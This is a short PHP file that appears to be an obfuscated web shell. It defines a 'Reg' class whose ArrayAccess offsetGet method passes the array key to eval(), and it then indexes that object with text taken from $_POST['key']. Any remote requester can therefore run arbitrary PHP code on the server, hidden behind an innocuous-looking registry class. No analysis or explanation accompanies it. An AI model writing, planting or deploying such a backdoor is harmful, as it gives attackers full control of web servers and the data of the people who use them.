<?php
class Reg implements ArrayAccess
{
    public function offsetExists($o): bool { return true; }
    #[ReturnTypeWillChange]
    public function offsetGet($o) { return eval("return $o;"); }
    public function offsetSet($o, $v): void {}
    public function offsetUnset($o): void {}
}
$reg = new Reg();
$k = $_POST['key'] ?? '1';
@$reg["print(1) . " . substr($k, 4)] ?? 0;
$reg['print ' . substr($k, 5)];
